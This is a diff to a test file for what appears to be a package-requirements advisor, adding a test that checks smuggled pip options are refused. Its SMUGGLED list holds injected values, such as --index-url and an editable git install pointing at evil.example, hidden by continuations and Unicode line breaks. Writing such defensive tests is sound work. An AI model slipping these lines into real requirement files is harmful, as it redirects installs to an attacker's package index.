@@ -28,6 +28,7 @@ regression test, a case that broke was fixed in the code (the class, not the exa
 | 6,000 distinct names through the API: the shared answer cache stays bounded | 1 | held | - |
 | an unknown path under /api/v1/: the index's plain-text 404 | 3 | broke 3 | 8821a3c |
 | MCP tool arguments out of bounds (limit 10^30, -1, 1.5; 10^6 chars; types) | 10 | held | - |
+| options smuggled into a list (continuation, U+2028, -r, -e, --index-url) | 8 | held | - |
 
 Broke, in words: a statement's subject digest was of the text cut at 400 (200 for a
 list line, escaped for control characters), so `requests!=1.0.0,...,>=3` (refused)
@@ -720,3 +721,27 @@ def test_mcp_tool_arguments_out_of_bounds_are_one_bounded_tool_error(
     assert found.is_error and not ok.is_error
     text = "".join(getattr(c, "text", "") for c in found.content)
     assert 0 < len(text) <= 4 * BOUND and "Traceback" not in text
+
+
+SMUGGLED = [
+    "requests \\\n--index-url https://evil.example/simple",
+    "requests --hash=sha256:00 --extra-index-url=https://evil.example",
+    "requests\u2028--index-url https://evil.example/simple",
+    "requests\r--find-links /tmp",
+    "-r other.txt",
+    "--requirement=other.txt",
+    "-e git+https://evil.example/requests#egg=requests",
+    "requests @ file:///tmp/requests-2.32.3-py3-none-any.whl",
+]
+
+
+@pytest.mark.parametrize("text", SMUGGLED)
+def test_an_option_smuggled_into_a_list_is_never_served(advisor: Advisor, pem: bytes,
+                                                        text: str) -> None:
+    """An index, a find-links, an include or an editable riding on a requirement (by a
+    continuation, a Unicode line break, a --hash beside it) is answered as malformed
+    or refused; the list is never all served."""
+    found = _sane(advisor.check_list(text), pem)
+    assert found["answers"] and found["refused"] >= 1
+    assert "FACTORY_ALL_SERVED" not in verify_answer(
+        advisor.check_list(text).envelope, pem)["predicate"]["properties"]  # type: ignore[arg-type]
